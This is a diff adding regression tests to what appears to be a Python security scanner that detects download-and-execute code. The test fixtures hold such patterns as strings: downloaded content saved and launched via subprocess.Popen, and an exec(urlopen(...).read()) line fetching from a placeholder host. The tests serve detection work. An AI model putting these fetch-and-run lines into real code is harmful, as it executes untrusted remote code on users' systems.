@@ -62,3 +62,24 @@ def test_fetched_json_passed_to_a_tool_is_not_exec_of_fetched_code():
         "    subprocess.run(['git', 'checkout', v])\n"
     )
     assert not [f for f in scan({"pkg/m.py": src}) if f.rule == "DOU401"]
+
+
+def test_running_another_program_after_a_download_is_not_download_and_run():
+    """Regression: a function that caches weights and starts an unrelated server was HIGH."""
+    src = (
+        "import subprocess, requests\n"
+        "def serve(url, cache, binary):\n"
+        "    data = requests.get(url).content\n"
+        "    open(cache, 'wb').write(data)\n"
+        "    subprocess.Popen([binary])\n"
+        "    subprocess.Popen([cache])\n"
+    )
+    assert [f.line for f in scan({"pkg/m.py": src}) if f.rule == "DOU402"] == [6]
+
+
+def test_legacy_bootstrap_exec_is_medium():
+    src = "from urllib.request import urlopen\nexec(urlopen('https://x.example.invalid/ez.py').read())\n"
+    got = {f.severity for f in scan({"bootstrap.py": src}) if f.rule == "DOU401"}
+    assert got == {Severity.MEDIUM}
+    got = {f.severity for f in scan({"pkg/boot.py": src}) if f.rule == "DOU401"}
+    assert got == {Severity.CRITICAL}
